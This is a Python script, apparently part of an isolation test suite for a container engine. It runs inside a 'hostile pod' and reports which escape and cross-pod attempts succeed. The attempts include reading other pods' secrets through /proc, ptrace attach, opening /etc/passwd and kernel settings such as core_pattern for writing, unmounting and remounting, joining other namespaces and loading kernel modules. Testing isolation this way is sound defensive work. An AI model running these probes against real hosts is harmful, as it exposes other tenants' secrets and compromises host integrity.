"""What a hostile pod tries: each attempt returns what it got, and raises ``OSError`` or returns nothing if refused.

Runs inside a pod as ``python3 -c SOURCE ARGUMENTS``, with ARGUMENTS one JSON object::

    home      folder of the engine's state           port     of the API server on the host's loopback
    secret    what another pod keeps to itself       name     of the files it is in
    files     their places on the host               key      of the other pod's shared memory
    pids      processes outside: engine, zygote...   sockets  theirs
    disk      device number of a disk                attempts  the names of those to make

and prints one JSON object: attempt -> what it got.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import json
import os
import signal
import socket
import stat
import sys
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

Known = dict[str, Any]
LIBC = ctypes.CDLL(None, use_errno=True)
MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC, MS_PRIVATE, MNT_DETACH = 1, 32, 4096, 16384, 1 << 18, 2
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWPID = 0x20000, 0x10000000, 0x20000000
PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def call(name: str, *arguments: object) -> int:
    """A function of the C library; raises OSError."""
    result = int(getattr(LIBC, name)(*arguments))
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def mount(source: str, target: str, kind: str = "", flags: int = 0, options: str = "") -> None:
    call("mount", source.encode(), target.encode(), kind.encode(), ctypes.c_ulong(flags), options.encode())


def read(path: str) -> str:
    with Path(path).open(errors="replace") as file:
        return file.read(65536)


def is_namesake(pid: int) -> bool:
    """Whether a process of ours has the number of one outside by chance."""
    command = Path(f"/proc/{pid}/cmdline")
    return command.exists() and command.read_bytes() == Path("/proc/self/cmdline").read_bytes()


def listing(folder: str) -> str:
    """An entry of a folder that can be read and is not empty."""
    with contextlib.suppress(OSError):
        return next((entry.name for entry in Path(folder).iterdir()), "")
    return ""


def in_child(work: Callable[[], str]) -> str:
    """What ``work`` returns in a forked child, because it changes the process for good."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        got = ""
        with contextlib.suppress(OSError):
            got = work()
        os.write(writer, got.encode())
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader) as answer:
        got = answer.read()
    os.waitpid(pid, 0)
    return got


def processes() -> list[int]:
    return [int(entry.name) for entry in Path("/proc").iterdir() if entry.name.isdigit()]


# Reading


def state_of_the_engine(known: Known) -> str:
    files = ("kubeconfig", "engine.json", "pki/token", "nodes/dns.json", "objects.db")
    for name in files:
        with contextlib.suppress(OSError):
            return read(f"{known['home']}/{name}")[:80]
    return listing(known["home"])


def state_through_proc(known: Known) -> str:
    for pid in processes():
        for way in ("root", "cwd"):
            with contextlib.suppress(OSError):
                if found := listing(f"/proc/{pid}/{way}{known['home']}"):
                    return f"{pid}: {found}"
    return ""


def files_of_another_pod(known: Known) -> str:
    for path in known["files"]:
        with contextlib.suppress(OSError):
            if known["secret"] in read(path):
                return str(path)
    return ""


def a_file_by_its_name(known: Known) -> str:
    for folder, folders, files in os.walk("/"):
        if folder == "/":
            folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "nix")]
        if known["name"] in files:
            return f"{folder}/{known['name']}"
    return ""


def environment_of_others(known: Known) -> str:
    for pid in processes():
        with contextlib.suppress(OSError):
            if known["secret"] in read(f"/proc/{pid}/environ"):
                return str(pid)
    return ""


def processes_of_others(known: Known) -> str:
    return " ".join(str(pid) for pid in known["pids"] if Path(f"/proc/{pid}").exists() and not is_namesake(pid))


def files_by_handle(known: Known) -> str:
    """A handle needs no path: from who may open one, mounts hide nothing."""

    class Handle(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("handle", ctypes.c_char * 128)]

    handle, number = Handle(128), ctypes.c_int()
    call("name_to_handle_at", -100, b"/usr", ctypes.byref(handle), ctypes.byref(number), 0)
    folder = os.open("/usr", os.O_RDONLY)
    return str(call("open_by_handle_at", folder, ctypes.byref(handle), os.O_RDONLY))


def memory_of_another_pod(known: Known) -> str:
    return str(call("shmget", known["key"], 16, 0))


def disks(known: Known) -> str:
    memory = ("mem", "kmem", "port", "kmsg")
    return " ".join(entry.name for entry in Path("/dev").iterdir() if entry.is_block_device() or entry.name in memory)


def a_disk_of_its_own_making(known: Known) -> str:
    path = "/tmp/disk"
    os.mknod(path, 0o600 | stat.S_IFBLK, os.makedev(*known["disk"]))
    return str(os.open(path, os.O_RDONLY))


# Speaking to others


def sockets_of_the_supervisors(known: Known) -> str:
    for path in known["sockets"]:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as made:
            made.connect(path)
            return str(path)
    return ""


def abstract_socket_of_another_pod(known: Known) -> str:
    with socket.socket(socket.AF_UNIX) as made:
        made.connect("\0" + known["secret"])
    return "connected"


def loopback_of_the_host(known: Known) -> str:
    socket.create_connection(("127.0.0.1", known["port"]), 2).close()
    return "connected"


def signals(known: Known) -> str:
    for pid in known["pids"]:
        with contextlib.suppress(OSError):
            if not is_namesake(pid):
                os.kill(pid, signal.SIGCONT)
                return str(pid)
    return ""


def tracing(known: Known) -> str:
    for pid in known["pids"]:
        with contextlib.suppress(OSError):
            if is_namesake(pid):
                continue
            call("ptrace", PTRACE_ATTACH, pid, None, None)
            os.waitpid(pid, 0x40000000)
            call("ptrace", PTRACE_DETACH, pid, None, None)
            return str(pid)
    return ""


# Writing and breaking out


def host_files(known: Known) -> str:
    for path in ("/etc/passwd", "/usr/bin/env", "/bin/sh", sys.executable):
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
            return path
    return ""


def kernel_settings(known: Known) -> str:
    paths = ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
             "/sys/kernel/uevent_helper", "/sys/kernel/mm/transparent_hugepage/enabled")  # fmt: skip
    for path in paths:
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY))
            return path
    return ""


def _uncovered(known: Known) -> str:
    """With whatever rights the caller has: take away what covers the state, or make what is read-only writable."""
    for path in (known["home"], str(Path(known["home"]).parent), "/tmp", "/root", "/home"):
        with contextlib.suppress(OSError):
            call("umount2", path.encode(), MNT_DETACH)
            if Path(known["home"], "kubeconfig").exists():
                return f"uncovered {known['home']}"
    for path in ("/usr", "/etc", "/proc/sys"):
        with contextlib.suppress(OSError):
            mount("", path, flags=MS_REMOUNT | MS_BIND)
            return f"{path} is writable"
    for kind in ("proc", "sysfs", "cgroup", "cgroup2", "debugfs", "devtmpfs"):
        with contextlib.suppress(OSError):
            mount(kind, "/mnt", kind)
            return f"{kind} is mounted anew"
    return ""


def mounts(known: Known) -> str:
    return in_child(lambda: _uncovered(known))


def mounts_in_a_user_namespace(known: Known) -> str:
    """Where a pod may make one it has every right in it, but no mount that came from outside gives way."""

    def work() -> str:
        uid, gid = os.geteuid(), os.getegid()
        call("unshare", CLONE_NEWUSER | CLONE_NEWNS)
        with contextlib.suppress(OSError):
            for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
                Path(f"/proc/self/{name}").write_text(text)
        mount("", "/", flags=MS_REC | MS_PRIVATE)
        return _uncovered(known)

    return in_child(work)


def namespaces_of_others(known: Known) -> str:
    own = Path("/proc/self/ns/mnt").readlink()
    for pid in processes():
        with contextlib.suppress(OSError):
            path = Path(f"/proc/{pid}/ns/mnt")
            if path.readlink() != own:
                call("setns", os.open(path, os.O_RDONLY), CLONE_NEWNS)
                return str(path)
    return ""


def kernel_modules(known: Known) -> str:
    """EPERM comes before the kernel looks at the module."""
    try:
        call("syscall", {"x86_64": 175, "aarch64": 105}[os.uname().machine], None, 0, b"")
    except OSError as error:
        return "" if error.errno in (errno.EPERM, errno.ENOSYS) else "allowed"
    return "allowed"


ALL = (
    state_of_the_engine, state_through_proc, files_of_another_pod, a_file_by_its_name, environment_of_others,
    processes_of_others, files_by_handle, memory_of_another_pod, disks, a_disk_of_its_own_making,
    sockets_of_the_supervisors, abstract_socket_of_another_pod, loopback_of_the_host, signals, tracing, host_files,
    kernel_settings, mounts, mounts_in_a_user_namespace, namespaces_of_others, kernel_modules,
)  # fmt: skip


def attempt(names: Iterable[str], known: Known) -> dict[str, str]:
    """What the attempts with these names got, of those that got something."""
    got = {}
    for it in ALL:
        if it.__name__ in names:
            with contextlib.suppress(OSError):
                if found := it(known):
                    got[it.__name__] = found
    return got


if __name__ == "__main__":
    arguments = json.loads(sys.argv[1])
    print("GOT " + json.dumps(attempt(arguments["attempts"], arguments)), flush=True)
